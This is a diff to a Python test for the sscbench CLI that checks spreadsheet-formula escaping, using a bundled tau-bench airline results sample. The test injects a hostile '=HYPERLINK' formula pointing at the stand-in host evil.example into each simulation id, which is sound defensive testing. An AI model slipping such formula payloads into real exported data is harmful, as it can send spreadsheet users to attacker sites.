@@ -7,18 +7,17 @@ from __future__ import annotations
 import csv
 import json
 
-import pytest
 from typer.testing import CliRunner
 
-from realtext_corpus import TAU2 as SHARED
+from realtext_corpus import TAU2_SAMPLE
 from sscbench.cli import app
 
 HOSTILE = '=HYPERLINK("http://evil.example/{}","click")'
 
 
-@pytest.mark.skipif(not SHARED.exists(), reason="../shared/tau2-trajectories not present")
 def test_a_formula_id_lands_escaped_in_recording_matches(tmp_path):
-    results = json.loads((SHARED / "claude-opus-4-6-airline.json").read_text("utf-8"))
+    # the τ² results sample that ships with the examples: runs from a plain clone
+    results = json.loads(TAU2_SAMPLE.read_text("utf-8"))
     for number, simulation in enumerate(results["simulations"]):
         simulation["id"] = HOSTILE.format(number)
     recording = tmp_path / "recording.json"
@@ -26,7 +25,7 @@ def test_a_formula_id_lands_escaped_in_recording_matches(tmp_path):
     config = tmp_path / "study.toml"
     config.write_text(
         '[study]\nfirst_tool_call_only = false\n[world]\nsource = "tau-bench"\n'
-        'domains = ["airline"]\n[cases]\noperators = ["ReturnDate"]\nper_operator = 1\n'
+        'domains = ["airline"]\n[cases]\noperators = ["ReturnDate"]\nper_operator = 20\n'
         '[[agents]]\nid = "r"\nkind = "replay"\n[agents.replay]\n'
         f'path = "{recording}"\nqualify = "completed"\n[user]\nkind = "replay"\n',
         "utf-8",
